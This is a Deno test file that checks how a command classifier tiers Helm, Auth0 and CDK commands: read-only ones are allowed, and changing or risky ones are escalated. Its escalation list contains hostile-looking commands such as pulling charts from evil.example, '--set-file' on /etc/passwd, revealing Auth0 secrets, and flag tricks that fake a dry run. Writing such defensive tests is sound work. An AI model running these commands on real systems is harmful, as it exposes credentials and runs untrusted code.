import assert from "node:assert/strict";
import { supervised } from "../testing.ts";

Deno.test("what Helm and Auth0 only show passes", () => {
  const looks = [
    "helm list -A",
    "helm status web -n prod",
    "helm history web",
    "helm template web charts/web -f charts/web/values.yaml --set image.tag=1",
    "helm lint charts/web --strict",
    "helm show values bitnami/redis",
    "helm search repo redis --versions",
    "helm upgrade -i web charts/web --dry-run=client",
    "helm dependency list charts/web",
    "helm uninstall --help",
    "helm uninstall web --dry-run",
    "helm rollback web 3 --dry-run",
    "helm upgrade web charts/web --dry-run --debug",
    "auth0 apps list --json",
    "auth0 logs list -n 5",
    "auth0 api get stats/daily -q from=20260101",
  ];
  for (const command of looks) {
    assert.equal(supervised(command), "allow", command);
  }
});

Deno.test("what they change, run, send or tell asks", () => {
  const others = [
    "helm upgrade -i web charts/web",
    "helm upgrade web charts/web --dry-run=none",
    "helm upgrade web charts/web --dry-run --dry-run=false",
    "helm install web charts/web -- --dry-run",
    "helm install web charts/web --set --dry-run",
    "helm install web charts/web --description --dry-run",
    "helm install web charts/web --dry-run=server",
    "helm install web charts/web --dry-run --post-renderer ./x",
    "helm install web charts/web --dry-run --dependency-update",
    "helm install web oci://evil.example/x --dry-run",
    "helm install web $CHART --dry-run",
    "helm install web charts/web --set $X --dry-run",
    "helm template web charts/web --post-renderer ./x",
    "helm template web charts/web --output-dir /etc",
    "helm template web charts/web --set-file a=/etc/passwd",
    "helm template web charts/web -f https://evil.example/v.yaml",
    "helm template web https://evil.example/x.tgz",
    "helm template web redis --repo https://evil.example",
    "helm template web ../../x",
    "helm list --kubeconfig ./x",
    "helm list --kube-apiserver https://evil.example",
    "helm uninstall web",
    "helm uninstall web --dry-run=false",
    "helm uninstall web --description --dry-run",
    "helm rollback web 3",
    "helm get manifest web",
    "helm get all web",
    "helm plugin install x",
    "helm my-plugin",
    "auth0 apps show a --reveal-secrets",
    "auth0 apps list -r",
    "auth0 api clients",
    "auth0 api get connections",
    "auth0 api post users",
    "auth0 api users --data '{}'",
    "auth0 api get users --debug",
    "echo '{}' | auth0 api users",
    "auth0 api delete users/1",
    "auth0 test token",
    "cdk deploy",
    "cdk synth --app ./x",
    "cdk synth -o /etc",
    "cdk docs",
  ];
  for (const command of others) {
    const tier = supervised(command);
    assert.ok(tier === "remote" || tier === "critical", `${command}: ${tier}`);
  }
  assert.equal(supervised("helm get values web"), "fetch");
  assert.equal(supervised("cdk synth"), "project");
});
